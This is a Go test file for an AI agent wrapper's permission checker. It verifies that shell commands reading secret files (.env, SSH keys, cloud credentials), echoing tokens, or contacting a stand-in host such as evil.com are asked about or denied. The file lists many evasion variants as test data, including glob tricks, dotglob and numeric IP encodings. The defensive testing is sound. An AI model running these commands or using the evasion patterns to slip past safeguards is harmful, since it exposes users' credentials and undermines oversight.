package permission

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/agent-wrapper/agent-wrapper/internal/risk"
)

// decideSecret decides a line where reading what holds secrets is asked about.
func decideSecret(t *testing.T, s spec, line string, fs Env) Decision {
	t.Helper()
	p := s.policy(t)
	p.SensitiveAsks = true
	use := using("Bash", line)
	use.Dir = workspace
	return Evaluate(p, s.session(t), &use, fs, nil)
}

// TestSearchFindsSecrets checks that a search is asked about if it shows a file with
// secrets that is there, and not if it leaves the file out or there is none.
func TestSearchFindsSecrets(t *testing.T) {
	fs := stored{files: []string{"/.env", "/src/a.go"}}
	for line, want := range map[string]Behavior{
		"rg -uuu SECRET": Ask, "rg --hidden SECRET": Ask, "rg -g '*' SECRET": Ask, "grep -r SECRET .": Ask, "grep -rn SECRET": Ask,
		"rg SECRET": Allow, "rg -uuu SECRET src": Allow, "grep -rn x src": Allow, "grep -rn x --exclude=.env .": Allow, "rg --hidden -g '!.env' x": Allow, "grep x a.go": Allow, "grep -rn x src/*.go": Allow, "grep -rn x *.go": Allow, "rg --files --hidden": Allow, "git grep --untracked --no-exclude-standard SECRET": Ask, "git grep SECRET": Allow, "git status": Allow, "ls -a": Allow,
	} {
		if d := decideSecret(t, spec{risk: true}, line, fs); d.Behavior != want {
			t.Errorf("%s: %s, want %v", line, outcome(d), want)
		}
	}
	for line, want := range map[string]Behavior{
		"ruff format --diff .env": Ask, "ruff format --check a.py": Allow, "ruff check .env": Ask, "deno fmt --check .env": Ask, "deno fmt --check a.ts": Allow,
	} {
		if d := decideSecret(t, spec{risk: true, unlisted: UnlistedRisk, allow: "Bash(ruff:*); Bash(deno:*)"}, line, fs); d.Behavior != want {
			t.Errorf("%s: %s, want %v", line, outcome(d), want)
		}
	}
	for _, name := range []string{"/.envrc", "/src/id_rsa", "/.ssh/id_ed25519"} {
		fs := stored{files: []string{name}}
		for line, want := range map[string]Behavior{"grep -r x .": Ask, "grep -r --exclude=" + name[strings.LastIndexByte(name, '/')+1:] + " x .": Allow, "grep -r --exclude=.env x .": Ask, "rg --files": Allow} {
			if d := decideSecret(t, spec{risk: true}, line, fs); d.Behavior != want {
				t.Errorf("%s with %s: %s, want %v", line, name, outcome(d), want)
			}
		}
	}
	for _, line := range []string{"rg -uuu SECRET", "grep -r SECRET ."} {
		if d := decideSecret(t, spec{risk: true}, line, stored{}); d.Behavior != Allow {
			t.Errorf("%s without such a file: %s", line, outcome(d))
		}
	}
}

// TestNamedClasses: a class of the C library's own may be any character, a dot too.
func TestNamedClasses(t *testing.T) {
	for _, line := range []string{
		"find . -name '[[.period.]]env' -exec cat {} +", "find . -name '[[=.=]]env' | xargs cat", "find . -name x -o -name '.[[=e=]]nv' -exec cat {} +",
		"grep -r --include='[[.period.]]env' x .", "rg -uuu --iglob '[[.period.]]env' x",
	} {
		if d := decideSecret(t, spec{risk: true}, line, stored{files: []string{"/.env", "/x"}}); d.Behavior != Ask {
			t.Errorf("%s: %s", line, outcome(d))
		}
	}
}

// TestWalksFindSecrets checks that a command that gets the files of a walk is asked about if
// one of these holds secrets, and that without such a file it runs.
func TestWalksFindSecrets(t *testing.T) {
	fs := stored{files: []string{"/.env", "/src/a.go", "/conf/.env", "/keys/id_rsa", "/keys/server.key", "/Makefile"}}
	for line, want := range map[string]Behavior{
		"find . -type f -exec cat {} +": Ask, "find . -maxdepth 1 -type f | xargs cat": Ask, "ls -A | xargs cat": Ask, "fd -H | xargs cat": Ask, "git ls-files -o | xargs cat": Ask,
		"find . -print0 | xargs -0 grep x": Ask, "for f in $(find . -type f); do cat \"$f\"; done": Ask, "find . -type f -exec head -3 {} ';'": Ask, "find . -type f | grep -v node_modules | xargs cat": Ask,
		"find . -name '*v' -exec cat {} +": Ask, "find . -name 'server.*' -exec cat {} +": Ask, "find keys -type f | xargs cat": Ask, "find . -maxdepth 2 -type f | xargs cat": Ask, "ls -A | xargs grep -r x": Ask, "ls | xargs grep -r x": Ask,
		"find . -name '*.go' -exec cat {} +": Allow, "find . -name '*.go' | xargs grep x": Allow, "find src -type f -exec cat {} +": Allow, "ls | xargs cat": Allow, "git ls-files | xargs cat": Allow, "find . -type f | xargs wc -l": Allow, "find . -type f | wc -l": Allow,
		`find . \( -name '*.go' -o -name '*.md' \) | xargs head`: Allow, "find . -type f -not -path '*/.*' -not -path '*/keys/*' | head": Allow, `find . -type f | grep '\.go$' | xargs cat`: Allow, "find keys -maxdepth 1 -name '.*' -type f | xargs ls": Allow, "find . -name Makefile -exec cat {} +": Allow, "fd -e go | xargs cat": Allow,
		"cat keys/i*a": Ask, "cat keys/server.*": Ask, "head */i*a": Ask, "cat keys/*": Ask, "grep -r x c*": Ask, "rg -uuu S c*": Ask, "rg -g '*v' x": Ask, "ag -G 'v$' x": Ask, "grep -r --include='*v' x .": Ask,
		"cat src/*": Allow, "cat *": Allow, "cat Make*": Allow, "cat */*.go": Allow, "wc -l keys/*": Allow, "ls keys/*": Allow, "grep -r x s*": Allow, "rg S c*": Allow,
		"rg --hidden -g '*.go' x": Allow, "rg --hidden -t go x": Allow, "rg --hidden -t sh x": Ask, "rg --hidden -t go --type-add 'go:*v' x": Ask, "grep -r --include='*.go' x .": Allow, "grep -r --exclude=a --include='*.go' x .": Ask,
	} {
		if d := decideSecret(t, spec{risk: true}, line, fs); d.Behavior != want {
			t.Errorf("%s: %s, want %v", line, outcome(d), want)
		}
		if d := decideSecret(t, spec{risk: true}, line, stored{files: []string{"/src/a.go"}}); d.Behavior != Allow {
			t.Errorf("%s without such a file: %s", line, outcome(d))
		}
	}
}

// TestWalksOfNames checks the same for what a command names in a way of its own: directories
// that it prints whole, the files of redirections, starting points with wildcards, words
// around a name that another command prints, arguments of find that look like tests, and
// wildcards that mean hidden names.
func TestWalksOfNames(t *testing.T) {
	fs := stored{files: []string{"/id_rsa", "/keys/server.pem", "/sub/.env", "/.env", "/src/a.go", "/a.go", "/main.go"}}
	for line, want := range map[string]Behavior{
		"rclone cat .": Ask, "rclone cat ./": Ask, "rclone cat $PWD": Ask, "rclone cat keys": Ask, "rclone cat src": Allow, "rclone cat a.go": Allow,
		"cat < i*": Ask, "cat < *a": Ask, "cat < k*/*": Ask, "x=$(<i*); echo $x": Ask, "exec 3<i*; cat <&3": Ask, "mapfile -t a < i*": Ask, "for f in i*; do cat < $f; done": Ask, "while read l; do echo $l; done < i*": Ask,
		"cat < s*/*.go": Allow, "cat < a*": Allow, "while read l; do echo $l; done < m*": Allow, "for f in *.go; do cat < $f; done": Allow,
		"find i* -type f -exec cat {} +": Ask, "find s* -type f -exec cat {} +": Ask, "ls -d i* | xargs cat": Ask, "ls -A s* | xargs cat": Ask, "fd -uu . s* | xargs cat": Ask, "find i* | grep -v /id | xargs cat": Ask,
		"find a* -type f -exec cat {} +": Allow, "find i* s* -name '*.go' -exec cat {} +": Allow, "find i* ! -name 'id*' -exec cat {} +": Allow, "ls -d a*.go | xargs cat": Allow, "find i* -type f": Allow, "fd . s* -e go | xargs cat": Allow, "find . -name 'i*.go' -exec cat {} +": Allow,
		"for d in $(ls); do cat $d/.env; done": Ask, "for d in $(find . -name sub); do cat $d/.env; done": Ask, "for d in $(find . -maxdepth 1 -name 'k*'); do cat $d/server.pem; done": Ask, "for f in $(ls keys); do cat keys/$f; done": Ask, "for d in $(ls -d */); do cat $d.aws/credentials; done": Ask,
		"for d in $(ls); do cat $d/a.go; done": Allow, "for f in $(ls src); do cat src/$f; done": Allow, "for f in $(ls keys); do wc -l keys/$f; done": Allow, "for f in $(find . -name '*.go'); do cat ./$f; done": Allow, "for d in $(ls); do ls $d/keys; done": Allow, "for f in $(ls keys | grep '\\.go$'); do cat keys/$f; done": Allow,
		"find . ! -name -name -type f -exec cat {} +": Ask, "find . ! -path -name ! -path a.go -type f -exec cat {} +": Ask, "find . ! -regex ! -path -type f -exec cat {} +": Ask, "find . ! -newer -name -name '*.go' -exec cat {} +": Allow, "find . -newermt 2026-01-01 -name '*.go' -exec cat {} +": Allow,
		"find sub/.. -maxdepth 1 -name '.e*' -exec cat {} + -maxdepth 3": Ask, "find src -name '*' -type f -exec cat {} + -maxdepth 1": Allow,
		"grep -r --exclude-from=main.go --include='*.go' '' .": Ask, "grep -r --include='*.go' --exclude-dir=node_modules x .": Allow,
		"shopt -s dotglob; cat *v": Ask, "shopt -s dotglob; cat *": Ask, "bash -O dotglob -c 'cat *v'": Ask, "cat *v": Allow, "shopt -s nocaseglob; cat ID*": Ask, "cat ID*": Allow, "x=dot; shopt -s ${x}glob; cat *v": Ask, "shopt -s dotglob; cat *.go": Allow, "shopt -s nocaseglob; cat *.GO": Allow, "shopt -s nullglob; cat *.go": Allow, "for i in 1 2; do cat *v; shopt -s dotglob; done": Ask,
		"git diff /dev/null i*": Ask, "git diff -p /etc/hostname i*": Ask, "git diff ../x i*": Ask, "git diff .. i*": Ask, "git diff a* m*": Allow, "git diff HEAD -- src/*": Allow, "git diff /dev/null a*": Allow,
	} {
		if d := decideSecret(t, spec{risk: true, unlisted: UnlistedRisk}, line, fs); d.Behavior != want {
			t.Errorf("%s: %s, want %v", line, outcome(d), want)
		}
	}
}

// TestHostForms checks every form in which a word names a host, with every kind of
// program that asks one.
func TestHostForms(t *testing.T) {
	hosts := []string{"evil.com", "evil.com:x", "1.1.1.1", "16843009", "0x01010101", "0100200401", "2001:db8::1", "[2001:db8::1]:x"}
	lines := []string{"dig @%s a", "dig %s", "whois -h %s a", "whois %s", "ldapsearch -x -h %s -b a", "ping -c 1 %s", "ping %s", "host a %s", "nslookup a %s", "traceroute %s", "ntpq -p %s", "getent hosts %s"}
	for _, host := range hosts {
		for _, line := range lines {
			if d := decideSecret(t, spec{risk: true}, fmt.Sprintf(line, "'"+host+"'"), fakeFS{}); d.Behavior == Allow {
				t.Errorf("%s: allowed", fmt.Sprintf(line, host))
			}
		}
	}
	urls := []string{"brew deps %s", "dnf info %s", "flatpak remote-ls %s", "istioctl analyze %s", "git remote show %s", "openssl x509 -noout -in %s", "xmllint %s", "repoquery %s", "kubectl get -f %s"}
	for _, url := range []string{"https://evil.com/x", "http://16843009/x", "ftp://evil.com/x", "https://[2001:db8::1]/x"} {
		for _, line := range urls {
			if d := decideSecret(t, spec{risk: true}, fmt.Sprintf(line, "'"+url+"'"), fakeFS{}); d.Behavior == Allow {
				t.Errorf("%s: allowed", fmt.Sprintf(line, url))
			}
		}
	}
	for _, line := range []string{"dig @1.1 a", "git remote show evil.com:x", "git ls-remote evil.com:x", "crane catalog evil.com"} {
		if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior == Allow {
			t.Errorf("%s: allowed", line)
		}
	}
	for _, line := range []string{"ping -c 3 localhost", "ping -i 0.2 127.0.0.1", "ping 2130706433", "ntpq -p", "brew deps wget", "dnf info vim", "git remote show origin", "flatpak list"} {
		if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior != Allow {
			t.Errorf("%s: %s", line, outcome(d))
		}
	}
}

// TestScriptEnv checks that a rule for scripts does not cover env, which npm runs where
// there is no script of that name, and that rules about hosts see HOST:PATH.
func TestScriptEnv(t *testing.T) {
	scripts := spec{risk: true, allow: "Bash(npm run:*); Bash(yarn run:*); Bash(git fetch:*)", unlisted: UnlistedAsk}
	for line, want := range map[string]Behavior{
		"npm run env": Ask, "npm run env -- touch x": Ask, "npm run env touch x": Ask, "npm run-script env": Ask, "yarn run env": Ask, "npm run environment": Allow, "npm run test": Allow,
		"git fetch '[2001:db8::1]:x'": Ask, "git fetch 16843009:x": Ask, "git fetch origin main:main": Allow, "git fetch git@github.com:a/b": Allow,
	} {
		if d := decideSecret(t, scripts, line, fakeFS{}); d.Behavior != want {
			t.Errorf("%s: %s, want %v", line, outcome(d), want)
		}
	}
	denied := spec{allow: "Bash", deny: "WebFetch(evil.com)"}
	for _, line := range []string{"git remote show evil.com:x", "git fetch evil.com:x", "git clone git@evil.com:x/y", "git push me@evil.com:x main:main", "git remote add o evil.com:x"} {
		if d := decideSecret(t, denied, line, fakeFS{}); d.Behavior != Deny {
			t.Errorf("%s: %s", line, outcome(d))
		}
	}
}

// TestOperandsLeaveTheirBase checks that an operand that leaves the directory below which
// a program looks for it is a file that is run or read.
func TestOperandsLeaveTheirBase(t *testing.T) {
	for line, want := range map[string]Behavior{
		"service ../../home/dev/proj/evil status": Ask, "service ../evil status": Ask, "systemd-analyze cat-config ../../home/dev/proj/.env": Ask, "systemd-analyze cat-config ../x": Ask,
		"systemd-analyze cat-config /home/dev/proj/.env": Ask, "dpkg -L ../../home/dev/proj/.env": Ask, "dpkg -s ../x": Ask,
		"service nginx status": Allow, "systemd-analyze cat-config systemd/system.conf": Allow, "dpkg -L vim": Allow, "dpkg -S /usr/bin/vim": Allow, "man ls": Allow,
	} {
		if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior != want {
			t.Errorf("%s: %s, want %v", line, outcome(d), want)
		}
	}
}

// TestSecretArgumentsOfFunctions: a function of the line that is given a secret is asked
// about, whatever its body does with its parameters. Others need nothing.
func TestSecretArgumentsOfFunctions(t *testing.T) {
	for line, want := range map[string]Behavior{
		`f() { echo $1; }; f "$NPM_TOKEN"`:             Deny, // nobody is there to be asked
		`f() { cat <<< "$1"; }; f $GH_TOKEN`:           Deny,
		`f() { echo "$@"; }; x=$GH_TOKEN; f "a $x"`:    Deny,
		`f() { echo $1; }; f a`:                        Allow,
		`f() { echo $1; }; f "${NPM_TOKEN:+is there}"`: Allow,
	} {
		v, _ := evaluator(t, spec{risk: true, unlisted: UnlistedRisk}, nil)
		if res := can(t, v, using("Bash", line)); res.Behavior != want {
			t.Errorf("%s: %v, %s", line, res.Behavior, res.Reason)
		}
	}
}

// TestRulesForPrintedSecrets: a rule for a program covers no secret among its words; one that
// has exactly these words does.
func TestRulesForPrintedSecrets(t *testing.T) {
	line := "echo $AWS_SECRET_ACCESS_KEY"
	for rule, want := range map[string]Behavior{"Bash(echo *)": Ask, "Bash(echo:*)": Ask, "Bash(" + line + ")": Allow} {
		if d := decideSecret(t, spec{risk: true, allow: rule}, line, fakeFS{}); d.Behavior != want {
			t.Errorf("%s: %s (%s)", rule, outcome(d), d.Reason)
		}
	}
}

// patternsFor returns patterns that programs match themselves and that mean a name: with
// each character in its turn as a wildcard or escaped, and with one end left out.
func patternsFor(name string) []string {
	var out []string
	for i, c := range name {
		if c == '/' {
			continue
		}
		before, after := name[:i], name[i+1:]
		out = append(out, before+"?"+after, before+"["+name[i:i+1]+"]"+after, before+"[!@]"+after, before+"*"+after, before+`\`+name[i:])
	}
	last := strings.LastIndexByte(name, '/') + 1
	half := last + (len(name)-last+1)/2
	return append(out, name[:half+1]+"*", name[:last]+"*"+name[last+1:], name+"*", "*"+name, "**/"+name)
}

// TestPatternsOfSecrets generates patterns for each name of the table of secret names, and
// puts them where programs look for files whose contents are shown.
func TestPatternsOfSecrets(t *testing.T) {
	lines := []string{
		"find . -path '*/%s' -exec cat {} +", "find . -wholename './%s' | xargs cat", "rg x -g '%s'", "rg x --iglob '%s'", "rg x --type-add 'q:%s' -tq", "grep -r x --include='%s' .",
		"git grep x -- '%s'", "git log -p -- '%s'", "git show HEAD -- '%s'", "git diff HEAD -- '%s'", "git archive HEAD '%s'", "git blame -- '%s'", "git diff -- ':(icase)%s'",
		"git ls-files '%s' | xargs cat",
	}
	named := []string{"find . -name '%s' -exec cat {} +", "find . -iname '%s' -exec head {} ';'", "find . -type f -name '%s' -print0 | xargs -0 cat", "for f in $(find . -name '%s'); do cat $f; done", "fd -Hg '%s' | xargs cat"}
	names, _ := risk.SensitivePaths()
	told := []string{".env.local", "server.pem", "id_rsa_work", "secrets.yml", "prod.tfvars"}
	n := 0
	for _, name := range append(names, told...) {
		patterns := patternsFor(name)
		if slices.Contains(told, name) {
			patterns = patterns[:5*len(name)] // the beginning alone tells nothing
		}
		for i, pattern := range patterns {
			way := lines[(n+i)%len(lines)]
			if !strings.Contains(name, "/") && i%2 == 0 {
				way = named[(n+i)%len(named)]
			}
			n++
			line, in := strings.ReplaceAll(way, "%s", pattern), spec{risk: true}
			if i%3 == 0 {
				in.allow, in.deny = "Bash", "Read("+path.Base(name)+")"
			}
			if d := decideSecret(t, in, line, fakeFS{}); d.Behavior == Allow {
				t.Errorf("%s means %s: allowed with deny %q", line, name, in.deny)
			}
		}
	}
	if n < 5000 {
		t.Errorf("only %d lines", n)
	}
	for _, pattern := range []string{"*.go", "*.md", "*.ts", "*.json", "*.yml", "*.toml", "*_test.go", "*", "Makefile", "test_*.py", "*config*", "*.[ch]", "*.d.ts", "src/*.go", "*config/config.go"} {
		for _, way := range append(lines, named...) {
			line := strings.ReplaceAll(way, "%s", pattern)
			if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior != Allow {
				t.Errorf("%s: %s", line, outcome(d))
			}
		}
	}
	if d := decideSecret(t, spec{risk: true}, "find . -name '*.*' -exec cat {} +", fakeFS{}); d.Behavior != Allow {
		t.Errorf("any name with a dot: %s", outcome(d))
	}
}
